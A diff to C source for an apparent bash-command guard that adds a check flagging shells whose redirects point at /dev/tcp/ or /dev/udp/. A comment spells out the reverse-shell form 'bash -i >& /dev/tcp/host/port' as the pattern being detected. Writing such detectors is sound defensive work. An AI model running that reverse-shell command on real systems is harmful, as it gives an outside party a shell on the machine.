@@ -4,6 +4,8 @@
 #include "base/glob.h"
 #include "guard/bash/bash.h"
 
+#include "guard/names.h"
+
 /* ---- functions ---- */
 
 static size_t bucket_of(struct str name)
@@ -277,6 +279,21 @@ static void note_files(struct bash_reader *b, const struct bash_node *node, stru
     }
 }
 
+/* bash -i >& /dev/tcp/host/port: a shell for whoever answers there. */
+static void judge_connected(struct bash_reader *b, const struct bash_node *node,
+                            const struct bash_fields *fields)
+{
+    if (fields->count == 0 ||
+        !name_is_one_of(name_program(fields->list[0].text), STR("bash|sh|dash|zsh|ksh|ash")))
+        return;
+    for (const struct bash_redirect *r = node->redirects; r; r = r->next) {
+        struct str file = r->word ? bash_expand_text(b, r->word) : STR("");
+        if (str_starts(file, STR("/dev/tcp/")) || str_starts(file, STR("/dev/udp/")))
+            guard_find(b->g, GUARD_LAUNCH_OUTSIDE, fields->list[0], STR("bash"),
+                       "hands a shell to another machine", "run the program directly");
+    }
+}
+
 /* ---- simple commands ---- */
 
 /* For --show: the words as they are written, without splitting. */
@@ -437,11 +454,13 @@ static void run_simple(struct bash_reader *b, struct bash_node *node, struct wor
     if (guard_stopped(b->g))
         return;
     show(b, node, &fields);
-    if (node->redirects)
+    if (node->redirects) {
         note_files(b, node, input.text);
+        judge_connected(b, node, &fields);
+    }
     for (const struct bash_assign *a = node->assigns; a; a = a->next) {
         if (a->value && !a->array && a->name.n > 1 &&
-            (a->name.p[0] <= 'Z' || str_starts(a->name, STR("npm_config_"))))
+            (a->name.p[0] <= '_' || str_starts(a->name, STR("npm_config_"))))
             guard_variable(b->g, a->name,
                            (struct word){.text = bash_expand_text(b, a->value),
                                          .start = a->value->start,
